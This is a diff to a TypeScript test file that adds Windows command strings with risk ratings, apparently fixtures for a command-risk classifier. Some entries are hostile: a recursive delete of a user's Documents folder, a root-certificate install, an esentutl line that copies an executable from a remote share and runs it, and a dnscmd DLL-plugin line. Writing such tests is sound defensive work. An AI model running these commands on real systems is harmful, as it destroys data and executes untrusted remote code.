@@ -173,6 +173,22 @@ const FAMILIES: Record<string, [command: string, level: Level][]> = {
     ["dnscmd dc1 /config /serverlevelplugindll C:\\tools\\x.dll", "high"],
     ["SetupTool.exe C:\\drivers\\net.inf", "medium"],
   ],
+  "seventh set's families": [
+    ["New-VHD -Path C:\\vm\\disk.vhdx -SizeBytes 20GB", "medium"],
+    ["Set-VMFirmware build01 -EnableSecureBoot On", "medium"],
+    ["Remove-VMReplicationAuthorizationEntry -AllowedPrimaryServer hv01", "high"],
+    ['Get-ScheduledTask -TaskPath "\\UpdateTasks\\" | Export-ScheduledTask', "medium"],
+    ["compact /c /i /s:\\", "medium"],
+    ["Get-NetRoute | Where-Object -FilterScript { $_.ValidLifetime -Eq ([TimeSpan]::MaxValue) }", "low"],
+    ["Start-MpWDOScan", "critical"],
+    ["certutil -addstore -f Root C:\\Users\\Public\\ca.cer", "critical"],
+    ['forfiles /p C:\\Users\\dev\\Documents /s /c "cmd /c del /q @path"', "high"],
+    ['forfiles /p C:\\logs /s /m *.log /d -30 /c "cmd /c del @path"', "medium"],
+    [
+      "esentutl /y \\\\10.0.0.5\\share\\tool.exe /d C:\\Users\\Public\\tool.exe /o & C:\\Users\\Public\\tool.exe",
+      "critical",
+    ],
+  ],
 };
 
 beforeAll(() => loadShellParser());
